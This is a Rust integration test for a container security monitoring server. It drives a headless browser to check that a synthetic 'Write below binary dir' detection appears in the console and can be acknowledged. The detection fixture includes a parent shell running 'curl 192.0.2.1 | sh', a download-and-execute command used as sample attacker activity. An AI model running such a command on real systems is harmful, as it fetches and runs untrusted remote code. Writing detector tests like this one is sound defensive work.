//! The console in a headless browser, over a server of its own. Skipped, and says so, where there is no browser.

#![expect(clippy::unwrap_used, reason = "the helpers of tests may fail as tests do")]

use std::{
    io::{BufRead, BufReader, Read},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::Arc,
    time::Duration,
};

use fargard_model::{
    Arg, Batch, BatchHeader, Container, Detection, Event, EventType, Fd, Heartbeat, Lost, Outcome, Priority,
    Process, Record, Source, Task, Timestamp, batch::FORMAT, event::ArgValue,
};
use fargard_server::{Config, Running, Server};
use serde_json::json;

const TASK: &str = "arn:aws:ecs:eu-west-1:123456789012:task/prod/0123456789abcdef0123456789abcdef";
const RULE: &str = "Write below binary dir";

fn directory() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/browser")
}

/// What is missing for a browser test.
fn missing() -> Option<String> {
    let needed = [PathBuf::from("/usr/bin/chromium"), directory().join("node_modules/playwright-core")];
    let lacking = needed.into_iter().find(|path| !path.exists());
    if let Some(path) = lacking {
        return Some(format!("{} is missing (npm ci in tests/browser; Debian's chromium)", path.display()));
    }
    Command::new("node").arg("--version").output().is_err().then(|| "node is missing".to_owned())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_finding_appears_in_the_browser_and_is_acknowledged() {
    if let Some(missing) = missing() {
        eprintln!("skipped: {missing}");
        return;
    }
    let data = tempfile::tempdir().unwrap();
    let running = Server::start(Config::local(data.path())).await.unwrap();
    tell_of_a_cluster(&running).await;
    let mut browser = Browser::start(&running).await;
    browser.wait_until_ready();
    deliver(&running).await;
    let (success, output) = browser.finish();
    assert!(success, "{output}");
    running.stop().await;
}

/// A sweep with a task that nobody hears of, and waits until it is judged.
async fn tell_of_a_cluster(running: &Running) {
    let token = running.admin_token("sweeper").await.unwrap();
    let now = Timestamp::now().seconds();
    let cluster = "arn:aws:ecs:eu-west-1:123456789012:cluster/prod";
    let sweep = json!({"account": "123456789012", "region": "eu-west-1", "startedAt": now - 1,
        "clusters": [{"clusterArn": cluster, "status": "ACTIVE"}],
        "tasks": [{"taskArn": TASK, "clusterArn": cluster, "version": 1, "lastStatus": "RUNNING",
            "launchType": "FARGATE", "group": "service:web", "createdAt": now - 600, "startedAt": now - 590,
            "taskDefinitionArn": "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:7"}]});
    let url = running.url();
    tokio::task::spawn_blocking(move || {
        let bearer = format!("Bearer {}", token.reveal());
        let request = ureq::post(format!("{url}/v1/inventory")).header("authorization", &bearer);
        request.send(sweep.to_string()).unwrap();
        let until = std::time::Instant::now() + Duration::from_secs(30);
        loop {
            let request = ureq::get(format!("{url}/api/v1/coverage")).header("authorization", &bearer);
            let page = request.call().unwrap().body_mut().read_to_string().unwrap();
            if page.contains("UNHEALTHY") {
                return;
            }
            assert!(std::time::Instant::now() < until, "{page}");
        }
    })
    .await
    .unwrap();
}

/// The browser test of `tests/browser`.
struct Browser {
    child: Child,
    output: BufReader<std::process::ChildStdout>,
    seen: String,
}

impl Browser {
    async fn start(running: &Running) -> Self {
        let login = running.one_time_login_url().await.unwrap();
        let mut child = Command::new("node")
            .arg("findings.mjs")
            .args(["--base", &running.url(), "--login", &login, "--finding", RULE])
            .current_dir(directory())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let output = BufReader::new(child.stdout.take().unwrap());
        Self { child, output, seen: String::new() }
    }

    fn wait_until_ready(&mut self) {
        loop {
            let from = self.seen.len();
            let read = self.output.read_line(&mut self.seen).unwrap();
            if read == 0 || self.seen[from..].trim() == "READY" {
                return;
            }
        }
    }

    fn finish(mut self) -> (bool, String) {
        self.output.read_to_string(&mut self.seen).unwrap();
        self.child.stderr.take().unwrap().read_to_string(&mut self.seen).unwrap();
        (self.child.wait().unwrap().success(), self.seen)
    }
}

/// Sends a detection and a heartbeat as a sensor does.
async fn deliver(running: &Running) {
    let enrolment = running.enrolment_token("browser").await.unwrap();
    let url = running.url();
    let (enrolment, batch) = (enrolment.reveal().to_owned(), batch());
    let sent = tokio::task::spawn_blocking(move || {
        let body = json!({"task": {"arn": TASK}, "container": {"name": "app"}, "producer": "p"}).to_string();
        let (status, answer) = post(&format!("{url}/v1/enrol"), &enrolment, "identity", body.as_bytes());
        assert_eq!(status, 200, "{answer}");
        let answer: serde_json::Value = serde_json::from_str(&answer).unwrap();
        let body = zstd::encode_all(&*batch.to_lines().unwrap(), 3).unwrap();
        let (status, answer) =
            post(&format!("{url}/v1/batches"), answer["token"].as_str().unwrap(), "zstd", &body);
        assert_eq!(status, 200, "{answer}");
    });
    sent.await.unwrap();
}

fn post(url: &str, token: &str, encoding: &str, body: &[u8]) -> (u16, String) {
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(30)))
        .build()
        .into();
    let mut request = agent.post(url).header("authorization", &format!("Bearer {token}"));
    request = match encoding {
        "identity" => request.header("content-type", "application/json"),
        encoding => request.header("content-encoding", encoding),
    };
    let mut answer = request.send(body).unwrap();
    (answer.status().as_u16(), answer.body_mut().read_to_string().unwrap())
}

fn batch() -> Batch {
    let header = BatchHeader {
        format: FORMAT,
        producer: "p".into(),
        sequence: 1,
        task_arn: TASK.into(),
        lost: Lost::default(),
    };
    let heartbeat = Heartbeat {
        time: Timestamp::now(),
        backend: "notify".into(),
        events: 12,
        task: task(),
        container: container(),
        ..Heartbeat::default()
    };
    let records = vec![Record::Detection(Box::new(detection())), Record::Heartbeat(Box::new(heartbeat))];
    Batch { header, records }
}

fn task() -> Task {
    Task { arn: TASK.into(), cluster: "prod".into(), family: "web".into(), ..Task::default() }
}

fn container() -> Container {
    Container { name: "app".into(), image: "nginx:1".into(), ..Container::default() }
}

fn process(pid: u32, exepath: &str, args: &[&str]) -> Process {
    Process {
        pid,
        name: exepath.rsplit('/').next().unwrap().into(),
        exepath: exepath.into(),
        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
        ..Process::default()
    }
}

fn detection() -> Detection {
    let entry = process(1, "/bin/sh", &["-c", "curl 192.0.2.1 | sh"]);
    let curl = Process { parent: Some(Arc::new(entry)), ..process(17, "/usr/bin/curl", &["192.0.2.1"]) };
    let path = "/usr/bin/<probe>";
    let event = Event {
        num: 1,
        time: Timestamp::now(),
        source: Source::Syscall,
        kind: EventType::Openat,
        tid: 17,
        process: Arc::new(curl),
        args: vec![Arg { name: "name".into(), value: ArgValue::Path(path.into()) }],
        paths: vec![("name".into(), path.into())],
        fd: Some(Fd { num: -1, typechar: Some('f'), name: path.into(), ..Fd::default() }),
        outcome: Outcome::Attempt,
        evidence: fargard_model::Evidence::default(),
        task: Arc::new(task()),
        container: Arc::new(container()),
    };
    let fields = json!({"proc.name": "curl", "fd.name": path});
    Detection {
        id: "p-1-0".into(),
        time: event.time,
        rule: RULE.into(),
        priority: Priority::Error,
        source: Source::Syscall,
        hostname: "test".into(),
        output: format!("File below a binary directory opened for writing (file={path})"),
        tags: vec!["PCI_DSS_11.5.2".into(), "NIST_800-53_SI-7".into(), "filesystem".into(), "T1543".into()],
        output_fields: fields.as_object().cloned().unwrap(),
        description: "A program wrote where only the image's builder should.".into(),
        condition: "open_write and bin_dir and not proc.name in (known_writers)".into(),
        folded: 0,
        action: None,
        event,
    }
}
